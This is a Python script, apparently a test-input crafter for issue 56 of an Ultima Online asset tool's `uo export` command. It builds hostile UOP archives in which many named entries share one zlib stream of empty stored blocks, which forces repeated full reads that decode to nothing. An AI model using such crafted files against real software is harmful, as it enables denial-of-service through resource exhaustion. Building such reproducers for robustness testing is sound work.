# Attack inputs for `uo export anims|gumps` (issue 56): N names over one shared zlib stream of S bytes that reads all of it
# and decodes to nothing (empty stored blocks). python3 craft_shared_stream.py KIND N S OUTDIR (KIND: anims, gumps, lengths, glengths).
import struct, sys, zlib, os
M=0xFFFFFFFF
def rot(x,k): return ((x<<k)|(x>>(32-k)))&M
def mix(a,b,c):
    a=(a-c)&M; a^=rot(c,4); c=(c+b)&M
    b=(b-a)&M; b^=rot(a,6); a=(a+c)&M
    c=(c-b)&M; c^=rot(b,8); b=(b+a)&M
    a=(a-c)&M; a^=rot(c,16); c=(c+b)&M
    b=(b-a)&M; b^=rot(a,19); a=(a+c)&M
    c=(c-b)&M; c^=rot(b,4); b=(b+a)&M
    return a,b,c
def fin(a,b,c):
    c^=b; c=(c-rot(b,14))&M
    a^=c; a=(a-rot(c,11))&M
    b^=a; b=(b-rot(a,25))&M
    c^=b; c=(c-rot(b,16))&M
    a^=c; a=(a-rot(c,4))&M
    b^=a; b=(b-rot(a,14))&M
    c^=b; c=(c-rot(b,24))&M
    return a,b,c
def h(name):
    k=name.encode(); a=b=(0xDEADBEEF+len(k))&M; c=a
    while len(k)>12:
        a=(a+struct.unpack('<I',k[0:4])[0])&M; b=(b+struct.unpack('<I',k[4:8])[0])&M; c=(c+struct.unpack('<I',k[8:12])[0])&M
        a,b,c=mix(a,b,c); k=k[12:]
    if not k: return (b<<32)|c
    k=k+b'\0'*(12-len(k))
    a=(a+struct.unpack('<I',k[0:4])[0])&M; b=(b+struct.unpack('<I',k[4:8])[0])&M; c=(c+struct.unpack('<I',k[8:12])[0])&M
    a,b,c=fin(a,b,c); return (b<<32)|c
def stream(size):
    # zlib header, empty non-final stored blocks, a final empty stored block, adler of nothing.
    body=b'\x78\x01'+b'\x00\x00\x00\xff\xff'*((size-2-5-4)//5)+b'\x01\x00\x00\xff\xff'+struct.pack('>I',1)
    assert zlib.decompress(body)==b''
    return body
def uop(names, data, compression, shrink=0):
    n=len(names); table=28; data_at=table+12+34*n
    out=struct.pack('<III',0x50594D,5,0)+struct.pack('<QII',table,n,n)+struct.pack('<IQ',n,0)
    for i,name in enumerate(names):
        out+=struct.pack('<QIIIQIH',data_at,0,len(data)-shrink*i,0,h(name),0,compression)
    return out+data
kind,n,size,outdir=sys.argv[1],int(sys.argv[2]),int(sys.argv[3]),sys.argv[4]
os.makedirs(outdir,exist_ok=True)
s=stream(size)
if kind=='lengths':
    names=[f"build/animationlegacyframe/{b:06}/{a:02}.bin" for b,a in ((i//80,i%80) for i in range(n))]
    open(os.path.join(outdir,'AnimationFrame1.uop'),'wb').write(uop(names,s,3,5))
elif kind=='glengths':
    names=[f"build/gumpartlegacymul/{i:08}.tga" for i in range(n)]
    open(os.path.join(outdir,'gumpartLegacyMUL.uop'),'wb').write(uop(names,s,3,5))
elif kind=='anims':
    names=[f"build/animationlegacyframe/{b:06}/{a:02}.bin" for b,a in ((i//80,i%80) for i in range(n))]
    open(os.path.join(outdir,'AnimationFrame1.uop'),'wb').write(uop(names,s,3))
else:
    names=[f"build/gumpartlegacymul/{i:08}.tga" for i in range(n)]
    open(os.path.join(outdir,'gumpartLegacyMUL.uop'),'wb').write(uop(names,s,3))
